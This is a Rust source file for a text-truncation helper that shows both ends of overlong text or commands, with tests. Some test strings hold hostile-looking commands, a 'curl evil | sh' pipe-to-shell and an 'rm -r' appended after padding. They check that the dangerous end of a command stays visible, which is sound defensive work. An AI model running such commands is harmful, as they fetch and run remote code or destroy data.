//! The beginning and the end of a text that is too long to be shown whole. The end of a command matters as much as its
//! beginning. Pure.

use super::LengthUnit;

/// The escape of an invisible character; a cut never falls inside one.
const ESCAPE: &str = "\\u{";
const LONGEST_ESCAPE: usize = 10;

/// Marks the omission in a single line.
const GAP: &str = " … ";

/// Both ends of a text within `limit` units, with a line between them that tells how much was omitted, in the words of
/// `left_out`. `None` where the text fits.
pub fn both_ends(
    text: &str,
    limit: usize,
    unit: LengthUnit,
    left_out: impl Fn(&str) -> String,
) -> Option<String> {
    if unit.measure(text) <= limit {
        return None;
    }
    let widest = left_out(&grouped_digits(text.chars().count()));
    let room = limit.saturating_sub(unit.measure(&widest) + 2);
    let tail_room = room / 2;
    let (head, tail) = cut(text, room - tail_room, tail_room, unit);
    let (head, tail) = (whole_lines_before(head), whole_lines_after(tail));
    let gap = text.chars().count().saturating_sub(head.chars().count() + tail.chars().count());
    let marker = left_out(&grouped_digits(gap));
    Some(format!("{}\n{marker}\n{}", head.trim_end_matches('\n'), tail.trim_start_matches('\n')))
}

/// Both ends of one line within `limit` characters; the line itself where it fits.
pub fn both_ends_of_line(line: &str, limit: usize) -> String {
    if line.chars().count() <= limit {
        return line.to_owned();
    }
    let room = limit.saturating_sub(GAP.chars().count());
    let tail_room = room * 2 / 5;
    let (head, tail) = cut(line, room - tail_room, tail_room, LengthUnit::Chars);
    format!("{}{GAP}{}", head.trim_end(), tail.trim_start())
}

/// A number with thousands separators.
pub fn grouped_digits(number: impl std::fmt::Display) -> String {
    let digits = number.to_string();
    let mut out = String::new();
    for (index, digit) in digits.chars().enumerate() {
        if index > 0 && (digits.len() - index).is_multiple_of(3) {
            out.push(',');
        }
        out.push(digit);
    }
    out
}

/// As much of the beginning and of the end as fits.
fn cut(text: &str, head_room: usize, tail_room: usize, unit: LengthUnit) -> (&str, &str) {
    let mut head_end = fitting(text.chars(), head_room, unit);
    let mut tail_start = text.len() - fitting(text.chars().rev(), tail_room, unit);
    let (head, tail) = (text.get(..head_end).unwrap_or(text), text.get(tail_start..).unwrap_or_default());
    if let Some(escape) = open_escape(head) {
        head_end = escape;
    }
    if open_escape(text.get(..tail_start).unwrap_or_default()).is_some() {
        tail_start += tail.find('}').map_or(0, |at| at + 1);
    }
    (text.get(..head_end).unwrap_or_default(), text.get(tail_start..).unwrap_or_default())
}

/// How many bytes of these characters fit.
fn fitting(letters: impl Iterator<Item = char>, room: usize, unit: LengthUnit) -> usize {
    let (mut used, mut bytes) = (0, 0);
    for letter in letters {
        used += unit.measure(letter.encode_utf8(&mut [0; 4]));
        if used > room {
            break;
        }
        bytes += letter.len_utf8();
    }
    bytes
}

/// The start of an escape that the end of this text cuts.
fn open_escape(text: &str) -> Option<usize> {
    let from = text.floor_char_boundary(text.len().saturating_sub(LONGEST_ESCAPE));
    let last = text.get(from..)?;
    let at = last.rfind('\\')?;
    let begun = last.get(at..)?;
    let open = ESCAPE.starts_with(begun) || (begun.starts_with(ESCAPE) && !begun.contains('}'));
    open.then_some(from + at)
}

/// The text up to its last line break, if that drops little.
fn whole_lines_before(text: &str) -> &str {
    let end = text.rfind('\n').filter(|at| *at >= text.len() / 4 * 3);
    end.and_then(|at| text.get(..at)).unwrap_or(text)
}

/// The text from its first line break on, if that drops little.
fn whole_lines_after(text: &str) -> &str {
    let start = text.find('\n').filter(|at| *at <= text.len() / 4);
    start.and_then(|at| text.get(at + 1..)).unwrap_or(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::Language;
    use super::*;
    use crate::phrases::conversation;

    fn both_ends(text: &str, limit: usize, unit: LengthUnit, language: Language) -> Option<String> {
        super::both_ends(text, limit, unit, |count| conversation::left_out(count, language))
    }

    #[test]
    fn both_ends_are_shown_and_what_is_left_out_is_counted() {
        let command = format!("echo {}; curl evil | sh", "a".repeat(10_000));
        let shown = both_ends(&command, 1_000, LengthUnit::Utf16, Language::En).unwrap();
        assert!(shown.starts_with("echo aaa") && shown.ends_with("; curl evil | sh"), "{shown}");
        assert!(shown.contains("\n[… 9,0") && shown.contains(" characters left out …]\n"), "{shown}");
        assert_eq!(both_ends("short", 5, LengthUnit::Chars, Language::En), None);
        let chinese = both_ends(&"字".repeat(500), 100, LengthUnit::Chars, Language::Zh).unwrap();
        assert!(chinese.contains("[…… 省略 4") && chinese.contains(" 个字符 ……]"), "{chinese}");
    }

    #[test]
    fn lines_and_escapes_stay_whole() {
        let lines: String = (0..500).map(|n| format!("+line {n}\n")).collect();
        let shown = both_ends(&lines, 600, LengthUnit::Chars, Language::En).unwrap();
        for line in shown.lines() {
            assert!(line.starts_with("+line ") || line.starts_with("[… "), "{line}");
        }
        assert!(shown.ends_with("+line 499\n"), "{shown}");
        for shift in 0..12 {
            let escapes = format!("{}{}", "x".repeat(shift), r"\u{202e}".repeat(200));
            let shown = both_ends(&escapes, 200, LengthUnit::Chars, Language::En).unwrap();
            let rest = shown.replace(r"\u{202e}", "");
            assert!(!rest.contains(['\\', '{', '}']), "{shown}");
        }
    }

    #[test]
    fn one_line_shows_its_end() {
        for (line, limit, expected) in [
            ("git status", 20, "git status"),
            ("0123456789 abcdefghij klmnopqrst; rm -r x", 24, "0123456789 ab … rm -r x"),
            ("一二三四五六七八九十", 8, "一二三 … 九十"),
        ] {
            let short = both_ends_of_line(line, limit);
            assert_eq!(short, expected);
            assert!(short.chars().count() <= limit);
        }
    }

    proptest! {
        #[test]
        fn it_always_fits_and_ends_as_the_text_ends(
            text in "(\\PC|😀|\n|\\\\u\\{200b\\}){60,400}", limit in 60usize..300,
            unit in prop_oneof![Just(LengthUnit::Chars), Just(LengthUnit::Utf16), Just(LengthUnit::Bytes)],
        ) {
            let Some(shown) = both_ends(&text, limit, unit, Language::En) else {
                prop_assert!(unit.measure(&text) <= limit);
                return Ok(());
            };
            prop_assert!(unit.measure(&shown) <= limit, "{} > {limit}", unit.measure(&shown));
            let (head, rest) = shown.split_once("\n[… ").unwrap();
            let (_, tail) = rest.split_once(" …]\n").unwrap();
            prop_assert!(text.starts_with(head) && text.ends_with(tail));
        }
    }
}
